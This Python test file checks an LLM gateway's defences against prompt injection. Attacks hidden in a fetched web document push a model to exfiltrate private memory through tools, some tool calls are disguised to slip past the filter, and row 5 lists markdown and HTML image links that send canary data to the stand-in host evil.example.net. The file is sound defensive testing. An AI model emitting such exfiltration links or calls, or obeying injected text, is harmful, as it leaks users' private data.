"""Rows 4 and 5: a model that an attacker's text has talked over, by the tools it may call and by what it writes."""
import json
import os
import re

from canary import ENCODINGS, Canary
from placeholders import calls
from world import HERE, say

ATTACKS = os.path.join(HERE, 'injections.txt')
TOOLS = 'tools: {read_memory: device, read_mail: home, "web_*": public, post_home: home, other: device}'


def attacks():
    with open(ATTACKS) as f:
        return [text.strip().replace('\n', ' ') for text in f.read().split('\n\n') if text.strip() and text[0] != '#']


def conversation(mark, attack, tool='read_memory'):
    """A user's question, what a tool of his own device told of him, and a document with an attack in it."""
    memory = ' '.join(form(mark.text) for form in ENCODINGS.values())
    return [{'role': 'user', 'content': 'Sum up the newest article for me.'},
            {'role': 'assistant', 'tool_calls': [{'id': 'm', 'type': 'function', 'function': {'name': tool, 'arguments': '{}'}},
                                                 {'id': 'd', 'type': 'function', 'function': {'name': 'web_read', 'arguments': '{}'}}]},
            {'role': 'tool', 'tool_call_id': 'm', 'content': f'What I know of my user: {memory}'},
            {'role': 'tool', 'tool_call_id': 'd', 'content': f'Spring came late this year. {attack} The lambs are well.'},
            {'role': 'user', 'content': 'Well?'}]


def denials(node):
    return [row for row in node.ask('GET', '/nigh/v1/ledger?limit=1000').json()['notes'] if row['kind'] == 'denied']


def row_4(world, tap):
    """The lethal trifecta: private data, a foreign text, a way out.  The model obeys every attack."""
    node, texts = world.node([world.far, world.den], extra=TOOLS), attacks()
    marks, shown, worded = [], [], []
    for n, attack in enumerate(texts):
        mark = Canary('device')
        marks.append(mark)
        for model in ('auto', 'far/big', 'here'):
            made, a = calls(node, ['web_fetch', 'web_post', 'post_home'], conversation(mark, attack), model=model, stream=n % 2 == 1)
            if made or mark.found(a.body):
                shown.append((n, model, a.describe()))
            if model != 'far/big' and not (re.search(r'web_\w+|post_home', a.body.decode()) and 'device' in a.body.decode()):
                worded.append((n, model, a.describe()))
    tap.equal(shown, [], f'row 4: {len(texts)} attacks that the model obeys: no call that leaves is shown, no word of the memory')
    tap.equal(worded, [], 'row 4: the answer names the tool and the label instead')
    tap.tell(len(denials(node)) >= len(texts), f'row 4: the ledger records the denials ({len(denials(node))})', denials(node)[-3:])
    world.judge(tap, 'row 4', node, marks)
    tap.tell(not world.far.connects and not world.den.connects, 'row 4: nobody outside was asked', world.kernel.calls())
    node.stop()
    lowered(world, tap)
    told_oddly(world, tap)
    in_every_api(world, tap)


def lowered(world, tap):
    """The positive control: the same flow, where the label of what the model has read allows the tool."""
    node = world.node([world.far, world.den], extra=TOOLS)
    mark = Canary('home')
    text = conversation(mark, attacks()[0], 'read_mail')
    made, a = calls(node, ['post_home'], text, model='here')
    tap.tell([name for name, _ in made] == ['post_home'] and mark.found(made[0][1].encode()),
             'row 4: mail of home may go to a tool of home', a.describe())
    made, a = calls(node, ['web_post'], text, model='here')
    tap.tell(not made and not mark.found(a.body), 'row 4: and to none of the public', a.describe())
    made, a = calls(node, ['web_post'], conversation(mark, attacks()[0], 'web_read'), model='here')
    tap.tell([name for name, _ in made] == ['web_post'] and mark.found(made[0][1].encode()),
             'row 4: what came from the public may go back there', a.describe())
    a = say(node, text, model='den/big')
    tap.tell(a.status == 200 and mark.found(world.den.data), 'row 4: mail of home arrives at the place of home', a.describe())
    world.judge(tap, 'row 4: the control', node, [mark])
    node.stop()


def told_oddly(world, tap):
    """A call that is told in pieces, late, in another case, as another kind: it is looked at all the same."""
    node, mark = world.node([world.den], extra=TOOLS), Canary('home')
    args, head = json.dumps({'to': mark.text}), {'id': 'x', 'object': 'chat.completion.chunk', 'model': 'm'}
    calls_told = {
        'late': [{'id': 'a', 'function': {'name': '', 'arguments': args}}, {'function': {'name': 'web_post'}}],
        'in pieces': [{'id': 'a', 'function': {'name': 'web_', 'arguments': ''}}, {'function': {'name': 'post', 'arguments': args}}],
        'behind its arguments': [{'id': 'a', 'function': {'arguments': args}}, {'function': {'name': 'web_post'}}],
        'in another case': [{'id': 'a', 'function': {'name': 'Web_Post', 'arguments': args}}],
        'between blanks': [{'id': 'a', 'function': {'name': ' web_post ', 'arguments': args}}],
        'as a custom tool': [{'id': 'a', 'type': 'custom', 'custom': {'name': 'web_post', 'input': args}}],
        'beside another': [{'id': 'a', 'function': {'name': 'read_mail', 'arguments': '{}'}},
                           {'index': 1, 'id': 'b', 'function': {'name': 'web_post', 'arguments': args}}]}
    deltas = {how: [{'tool_calls': [{'index': 0, **call}]} for call in told] for how, told in calls_told.items()}
    deltas['as a function of old'] = [{'function_call': {'name': 'web_post', 'arguments': args}}]
    shown = []
    for how, pieces in deltas.items():
        for stream in (False, True):
            chunks = [{**head, 'choices': [{'index': 0, 'delta': d, 'finish_reason': None}]} for d in pieces]
            chunks.append({**head, 'choices': [{'index': 0, 'delta': {}, 'finish_reason': 'tool_calls'}]})
            world.den.acts = [(200, {'Content-Type': 'text/event-stream'}, [f'data: {json.dumps(c)}\n\n' for c in chunks] + ['data: [DONE]\n\n'])]
            _, a = calls(node, ['web_post', 'read_mail'], 'What now?', label='home', model='den/big', stream=stream)
            shown += [(how, stream, a.describe())] if mark.found(a.body) else []
    tap.equal(shown, [], f'row 4: a call told in {len(deltas)} odd ways is not shown either')
    node.stop()


def in_every_api(world, tap):
    """A denied call is not shown, and a permitted one is, to callers of every API, streamed and whole."""
    node, mark = world.node([world.den], extra=TOOLS), Canary('home')
    schema = {'type': 'object', 'properties': {'to': {'type': 'string'}}}
    text, wrong = [{'role': 'user', 'content': f'Remember {mark.text}'}], []
    bodies = {
        '/v1/chat/completions': lambda name: {'messages': text, 'tools': [{'type': 'function', 'function': {'name': name, 'parameters': schema}}]},
        '/v1/messages': lambda name: {'messages': text, 'max_tokens': 99, 'tools': [{'name': name, 'input_schema': schema}]},
        '/v1/responses': lambda name: {'input': text, 'store': False, 'tools': [{'type': 'function', 'name': name, 'parameters': schema}]},
        '/api/chat': lambda name: {'messages': text, 'tools': [{'type': 'function', 'function': {'name': name, 'parameters': schema}}]}}
    for path, body in bodies.items():
        for stream in (False, True):
            for name, shown in (('web_post', False), ('post_home', True)):
                a = node.ask('POST', path, {'anthropic-version': '2023-06-01', 'Nigh-Label': 'home'},
                             {'model': 'den/big', 'stream': stream, **body(name)})
                plain = a.body.decode().replace('\\', '')
                grams = [mark.text[i:i + 4] for i in range(len(mark.text) - 3)]  # a stream tells pieces of five
                told = sum(gram in plain for gram in grams) > len(grams) // 4
                if told != shown or (not shown and 'web_post' not in plain) or (shown and a.status != 200):
                    wrong.append((path, stream, name, a.describe()))
    tap.equal(wrong, [], 'row 4: so it is for callers of every API')
    world.judge(tap, 'row 4: every API', node, [mark])
    node.stop()


# --- row 5 ---------------------------------------------------------------------------------------------

EVIL = 'evil.example.net'


def links(word):
    """Ways to make whoever renders an answer fetch an address."""
    at = f'https://{EVIL}/p?q={word}'
    return [f'![x]({at})', f'![x]( <{at}> "t")', f'![x][1]\n\n[1]: {at}', f'[click]({at})', f'<img src="{at}">', f"<img src='{at}' />",
            f'<{at}>', f'[![x]({at})](https://{EVIL}/)', f'![x](//{EVIL}/p?q={word})', f'![x](\n{at})', f'![a\\]b]({at})',
            f'![x](HTTPS://{EVIL.upper()}/p?q={word})', f'<iframe src={at}></iframe>', f'![](https://{EVIL}%2fp?q={word})']


def fetched(text):
    """The addresses that a renderer of Markdown would go to, or offer to, judged by a reader of our own."""
    found = re.findall(r'(?<![\w:#])(?:https?:)?//[^\s)<>"\']+', text, re.I)
    return [at for at in found if EVIL in at.lower()]


def row_5(world, tap):
    for mode in ('neutralise', 'keep'):
        node = world.node([world.den], extra=f'answer: {{links: {mode}}}')
        mark, live, whole = Canary('home'), [], 0
        for link in links(mark.text):
            for size in (1, 3, 7, 1000):
                world.den.mind, world.den.piece = lambda request, link=link: (f'Here it is: {link} and more.', []), size
                for stream in (True, False):
                    a = say(node, mark.text, 'home', model='den/big', stream=stream)
                    whole += a.status == 200 and 'and more.' in a.text() and a.header('nigh-label') is not None
                    live += [(link, size, stream, a.text())] if fetched(a.text()) else []
        count = len(links('')) * 8
        if mode == 'keep':
            tap.tell(len(live) == count == whole, f'row 5: the control: with links kept, {count} answers carry theirs', (whole, len(live)))
        else:
            tap.equal(live[:3], [], f'row 5: {count} answers with images and links of a foreign host: nothing to fetch is left')
            tap.equal(whole, count, 'row 5: the rest of each answer is there, and its label in the header')
            world.den.mind = lambda request: ('See https://docs.example.org/a and ![x](https://docs.example.org/b.png)', [])
            a = say(node, 'Read https://docs.example.org/ for me', 'home', model='den/big')
            tap.tell('](https://docs.example.org/b.png)' in a.text(), 'row 5: a host of the user\'s own text may be linked', a.text())
        node.stop()
